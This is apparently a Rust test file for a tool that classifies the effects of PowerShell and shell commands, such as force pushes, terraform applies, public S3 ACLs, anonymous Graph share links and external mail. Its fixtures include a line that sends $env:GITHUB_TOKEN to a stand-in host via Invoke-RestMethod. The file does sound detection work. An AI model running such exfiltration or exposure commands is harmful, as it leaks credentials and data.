//! PowerShell, round seven: statements after `;` that only PowerShell
//! reads (`if ($LASTEXITCODE ...) { }`, `Push-Location`), strings joined
//! with `+` and used by name, AWS Tools' `Set-S3ACL`,
//! `Invoke-MgGraphRequest` with a hashtable body, and Graph mail whose
//! hashtable holds constants (`$true`).

use super::common::*;

/// The first effect of `kind` of `command`.
fn first(command: &str, kind: &str) -> serde_json::Value {
    effects(command)
        .into_iter()
        .find(|e| e["effect"] == kind)
        .unwrap_or_default()
}

#[test]
fn powershell_statement_after_semicolon() {
    let push = "git rebase origin/main; if ($LASTEXITCODE -eq 0) { git push --force-with-lease origin feature/x }";
    let pushed = first(push, "git_push");
    assert_eq!(pushed["force"], true, "{pushed}");
    // Plain bash with `;` stays bash.
    assert_eq!(kinds("git status; git log -1"), Vec::<String>::new());
}

#[test]
fn location_cmdlet_then_statements() {
    for line in [
        "Push-Location infra/staging; terraform apply -auto-approve; Pop-Location",
        "Set-Location ./infra/staging; terraform apply -auto-approve",
    ] {
        let apply = first(line, "terraform");
        assert_eq!(apply["dir"], "/home/dana/acme-web/infra/staging", "{line}");
    }
    // A cmdlet alone on its line is unchanged.
    let apply = first("terraform apply -auto-approve", "terraform");
    assert_eq!(apply["dir"], "/home/dana/acme-web");
}

#[test]
fn joined_string_used_by_name() {
    let request = first(
        "$u = 'https://t.example/c?k=' + $env:GITHUB_TOKEN; Invoke-RestMethod -Uri $u",
        "request",
    );
    assert_eq!(
        request["target"]["url"],
        "https://t.example/c?k=${GITHUB_TOKEN}"
    );
    assert_eq!(request["payload"]["env"][0], "GITHUB_TOKEN");
    // Changed in place after the assignment: not the value written.
    let request = first(
        "$u = 'https://t.example/c?k=' + $env:T; $u += '&x=1'; Invoke-RestMethod -Uri $u",
        "request",
    );
    assert_ne!(request["target"]["url"], "https://t.example/c?k=${T}");
    // Literal strings joined need no rewrite and stay literal.
    let request = first(
        "$u = 'https://t.example/c?k=' + 'abc'; Invoke-RestMethod -Uri $u",
        "request",
    );
    assert_eq!(request["target"]["url"], "https://t.example/c?k=abc");
    assert_eq!(request["payload"]["env"], serde_json::json!([]));
}

#[test]
fn set_s3acl_as_s3api() {
    let public = first(
        "Set-S3ACL -BucketName reports -Key m/a.csv -CannedACLName public-read",
        "make_public",
    );
    assert_eq!(public["resource"]["name"], "reports");
    assert!(
        !kinds("Set-S3ACL -BucketName reports -Key m/a.csv -CannedACLName private")
            .contains(&"make_public".to_owned())
    );
    assert!(
        !kinds("Set-S3ACL -BucketName reports -PublicReadOnly -WhatIf")
            .contains(&"make_public".to_owned())
    );
    assert!(
        kinds("Set-S3ACL -BucketName reports -PublicReadOnly").contains(&"make_public".to_owned())
    );
}

#[test]
fn graph_request_hashtable_body_as_json() {
    let line = "Invoke-MgGraphRequest -Method POST -Uri 'https://graph.microsoft.com/v1.0/drives/d/items/i/createLink' -Body @{ type = 'view'; scope = 'anonymous' }";
    let request = first(line, "request");
    assert_eq!(request["method"], "POST");
    assert_eq!(
        request["payload"]["text"][0],
        "{\"type\":\"view\",\"scope\":\"anonymous\"}"
    );
    // A relative URI goes to Graph; no method is a GET.
    let request = first("Invoke-MgGraphRequest -Uri v1.0/me", "request");
    assert_eq!(
        request["target"]["url"],
        "https://graph.microsoft.com/v1.0/me"
    );
    assert_eq!(request["method"], "GET");
}

#[test]
fn graph_mail_hashtable_with_constants() {
    let line = "$p = @{ Message = @{ Subject = 'S'; Body = @{ ContentType = 'Text'; Content = 'hi' }; ToRecipients = @(@{ EmailAddress = @{ Address = 'x@ext.example' } }) }; SaveToSentItems = $true }; Send-MgUserMail -UserId me@acme.example -BodyParameter $p";
    let message = first(line, "message");
    assert_eq!(message["recipients"], serde_json::json!(["x@ext.example"]));
    // Without recipients there is no message.
    let none = "$p = @{ Message = @{ Subject = 'S' }; SaveToSentItems = $true }; Send-MgUserMail -UserId me@acme.example -BodyParameter $p";
    assert!(!kinds(none).contains(&"message".to_owned()));
}
